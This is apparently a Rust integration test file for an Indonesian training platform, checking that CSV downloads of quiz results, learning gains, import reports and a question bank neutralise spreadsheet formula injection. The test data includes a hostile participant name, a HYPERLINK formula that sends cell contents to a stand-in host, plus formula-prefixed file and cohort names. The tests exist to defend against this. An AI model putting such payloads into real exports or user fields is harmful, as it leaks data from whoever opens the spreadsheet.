//! CSV exports downloaded over real HTTP keep a spreadsheet from running what people typed as
//! formulas (issue #16): a name, a group, a file name or a prompt starting with `=`, `+`, `-` or
//! `@` arrives with a `'` in front, numbers we computed (a negative learning gain) stay numbers,
//! and the question bank's export still imports back as the text that was typed.

use app::model::Role;
use pamong_tests::fixtures;
use pamong_tests::harness::{Client, TestServer};
use pamong_tests::import_support::{finished, generate_csv, upload_job};
use pamong_tests::quiz_results_support as qs;
use reqwest::header::{HeaderValue, ORIGIN, REFERER};

const PASSWORD: &str = "kata-sandi-uji-1";
const HOSTILE_NAME: &str = "=HYPERLINK(\"http://jahat.example/?d=\"&A1,\"Klik\")";

/// The body of the download at `path` (200, `text/csv`).
async fn download(client: &Client, path: &str) -> Vec<u8> {
    let response = client.get(path).await;
    assert_eq!(response.status(), 200, "{path}");
    let kind = response
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    assert!(kind.starts_with("text/csv"), "{path}: {kind}");
    response.bytes().await.expect("body").to_vec()
}

/// The records of a CSV body (a byte-order mark dropped), split by `delimiter`.
fn records(body: &[u8], delimiter: u8) -> Vec<Vec<String>> {
    let body = body.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(body);
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(body)
        .records()
        .map(|r| r.expect("record").iter().map(str::to_string).collect())
        .collect()
}

/// Whether any cell would start a formula in a spreadsheet.
fn formula_cells(rows: &[Vec<String>]) -> Vec<String> {
    rows.iter()
        .flatten()
        .filter(|cell| {
            cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.replace(',', ".").parse::<f64>().is_err())
        })
        .cloned()
        .collect()
}

async fn signed_in_admin(
    server: &TestServer,
) -> (Client, app::model::UserId, app::model::InstitutionId) {
    let inst = server.institutions().await;
    let admin = server
        .user(Role::Admin, "admin@bpsdm.test", PASSWORD, Some(inst.agency))
        .await;
    let client = server.new_client();
    assert_eq!(
        client.sign_in("admin@bpsdm.test", PASSWORD).await.status(),
        200
    );
    (client, admin, inst.agency)
}

#[tokio::test]
async fn result_exports_neutralise_names_and_keep_computed_numbers() {
    let server = TestServer::start().await;
    let (admin_client, admin, agency) = signed_in_admin(&server).await;
    let db = &server.db;
    let program = fixtures::program(db, agency, admin, "published").await;
    let cohort = fixtures::cohort(db, program, "Angkatan 1", 100, admin).await;
    let group = qs::group(db, cohort, "@Kelompok Mawar", None).await;
    let question = qs::question(db, program, admin, "Soal", 5).await;
    let pre = qs::quiz(db, cohort, "Pre-test", "pre", 65, admin, &[question]).await;
    let post = qs::quiz(db, cohort, "Post-test", "post", 65, admin, &[question]).await;
    let hostile = qs::participant(db, HOSTILE_NAME, "p1@sekolah.sch.id").await;
    let enrolment = fixtures::approved_enrolment(db, cohort, hostile).await;
    qs::join_group(db, enrolment, group).await;
    // 60 % before, 40 % after: a gain of (40 − 60) / (100 − 60) = −0.5.
    qs::attempt(db, pre, hostile, 1, 5, 65, &[(question, 3000)], true).await;
    qs::attempt(db, post, hostile, 1, 5, 65, &[(question, 2000)], true).await;

    let quiz_rows = records(
        &download(&admin_client, &format!("/admin/kuis/{post}/hasil.csv")).await,
        b';',
    );
    assert_eq!(quiz_rows.len(), 2, "{quiz_rows:?}");
    let row = &quiz_rows[1];
    assert_eq!(row[1], format!("'{HOSTILE_NAME}"), "{row:?}");
    assert_eq!(row[3], "'@Kelompok Mawar");
    assert_eq!((row[6].as_str(), row[8].as_str()), ("2,000", "40,00"));
    assert!(formula_cells(&quiz_rows).is_empty(), "{quiz_rows:?}");

    let gain_rows = records(
        &download(
            &admin_client,
            &format!("/admin/angkatan/{cohort}/capaian.csv"),
        )
        .await,
        b';',
    );
    assert_eq!(gain_rows.len(), 2, "{gain_rows:?}");
    let row = &gain_rows[1];
    assert_eq!(row[1], format!("'{HOSTILE_NAME}"));
    assert_eq!(row[3], "'@Kelompok Mawar");
    assert_eq!(
        (row[4].as_str(), row[5].as_str(), row[6].as_str()),
        ("60,00", "40,00", "-0,5000"),
        "a negative gain stays a number"
    );
    assert!(formula_cells(&gain_rows).is_empty(), "{gain_rows:?}");
    server.stop().await;
}

#[tokio::test]
async fn the_import_report_neutralises_the_file_and_cohort_names() {
    let server = TestServer::start().await;
    let (admin_client, admin, agency) = signed_in_admin(&server).await;
    let program = fixtures::program(&server.db, agency, admin, "published").await;
    let cohort = fixtures::cohort(&server.db, program, "+Angkatan Impor", 100, admin).await;
    let mut csv = generate_csv(3, 5, "laporan.test");
    csv.push_str("-Tanpa Sekolah;tanpa@laporan.test;;;;;;SD;;;\n");

    let job = upload_job(&admin_client, cohort, "=1+2+cmd.csv", &csv).await;
    assert_eq!(finished(&server.db, job).await.status, "done");

    let rows = records(
        &download(&admin_client, &format!("/admin/impor/{job}/laporan.csv")).await,
        b';',
    );
    assert_eq!(rows[0], ["Berkas", "'=1+2+cmd.csv", ""], "{rows:?}");
    assert_eq!(rows[1], ["Angkatan", "'+Angkatan Impor", ""], "{rows:?}");
    let error = rows
        .iter()
        .find(|r| r[0] == "5")
        .unwrap_or_else(|| panic!("line 5's error is in the report: {rows:?}"));
    assert!(!error[2].is_empty());
    assert!(formula_cells(&rows).is_empty(), "{rows:?}");
    server.stop().await;
}

#[tokio::test]
async fn the_bank_export_neutralises_prompts_and_imports_back_as_typed() {
    let server = TestServer::start().await;
    let (admin_client, admin, agency) = signed_in_admin(&server).await;
    let program = fixtures::program(&server.db, agency, admin, "published").await;
    let p = program.to_string();
    let create = |form: Vec<(&'static str, String)>| {
        let client = admin_client.clone();
        async move {
            let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let response = client.call("bank_create_question", &form).await;
            let status = response.status();
            assert_eq!(status, 200, "{}", response.text().await.unwrap_or_default());
        }
    };
    create(vec![
        ("program_id", p.clone()),
        ("kind", "single".into()),
        ("prompt", "=1+1 hasilnya?".into()),
        ("points", "2".into()),
        ("option_1", "-2".into()),
        ("option_2", "@dua".into()),
        ("option_3", "'=kutip".into()),
        ("correct[]", "2".into()),
        ("feedback", "+62 812 untuk bertanya".into()),
    ])
    .await;
    create(vec![
        ("program_id", p.clone()),
        ("kind", "short".into()),
        ("prompt", "-5 + 3 = …".into()),
        ("points", "1".into()),
        ("answers", "-2\nminus dua".into()),
    ])
    .await;

    let exported = download(&admin_client, &format!("/admin/program/{program}/soal.csv")).await;
    let rows = records(&exported, b';');
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert_eq!(rows[1][1], "'=1+1 hasilnya?");
    assert_eq!(&rows[1][2..5], ["'-2", "'@dua", "''=kutip"]);
    assert_eq!(rows[1][11], "'+62 812 untuk bertanya");
    assert_eq!(rows[2][1], "'-5 + 3 = …");
    assert_eq!(rows[2][8], "'-2|minus dua");
    assert!(formula_cells(&rows).is_empty(), "{rows:?}");

    // Imported into another program, the questions read as they were typed, and export the same.
    let second = fixtures::program(&server.db, agency, admin, "draft").await;
    let page = format!("/admin/program/{second}/soal");
    let part = reqwest::multipart::Part::bytes(exported.clone())
        .file_name("soal.csv")
        .mime_str("text/csv")
        .expect("mime");
    let response = admin_client
        .http
        .post(admin_client.url(&format!("{page}/impor")))
        .header(
            ORIGIN,
            HeaderValue::from_str(&admin_client.base).expect("origin"),
        )
        .header(REFERER, admin_client.url(&page))
        .multipart(reqwest::multipart::Form::new().part("file", part))
        .send()
        .await
        .expect("upload");
    assert_eq!(response.status(), 303);
    let prompts: Vec<(String, String)> = sqlx::query_as(
        "select q.prompt, o.label from question q join question_option o on o.question_id = q.id \
         where q.program_id = $1 order by q.id, o.position",
    )
    .bind(second)
    .fetch_all(&server.db)
    .await
    .expect("imported");
    let expected: Vec<(String, String)> = [
        ("=1+1 hasilnya?", "-2"),
        ("=1+1 hasilnya?", "@dua"),
        ("=1+1 hasilnya?", "'=kutip"),
        ("-5 + 3 = …", "-2"),
        ("-5 + 3 = …", "minus dua"),
    ]
    .iter()
    .map(|(a, b)| (a.to_string(), b.to_string()))
    .collect();
    assert_eq!(prompts, expected);
    let again = download(&admin_client, &format!("/admin/program/{second}/soal.csv")).await;
    assert_eq!(
        String::from_utf8_lossy(&again),
        String::from_utf8_lossy(&exported)
    );
    server.stop().await;
}
